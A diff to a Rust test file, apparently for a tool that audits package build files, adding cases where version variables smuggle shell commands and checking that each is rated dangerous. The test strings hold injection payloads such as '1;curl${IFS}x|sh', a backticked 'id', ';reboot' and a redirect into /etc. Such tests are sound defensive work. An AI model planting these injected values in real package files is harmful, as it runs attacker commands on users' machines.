@@ -64,6 +64,12 @@ fn a_version_that_is_shell_code_is_dangerous() {
         "pkgver=1.0\npkgrel='1;reboot'",
         "pkgver=1.0\npkgrel=1\nepoch='1`id`'",
         "pkgver='1&&id'\npkgrel=1",
+        // As the file sets it.
+        "_v='1;curl${IFS}x|sh'\npkgver=$_v\npkgrel=1",
+        "pkgver=\"$(echo '1;id')\"\npkgrel=1",
+        "printf -v pkgver '%s' '1;id'\npkgrel=1",
+        "declare pkgver='1|id'\npkgrel=1",
+        "export pkgver='1>/etc/x'\npkgrel=1",
     ] {
         let r = audit(&pkg(vars, THANKS));
         assert_eq!(r.verdict, Verdict::Dangerous, "{vars}\n{}", r.to_text());
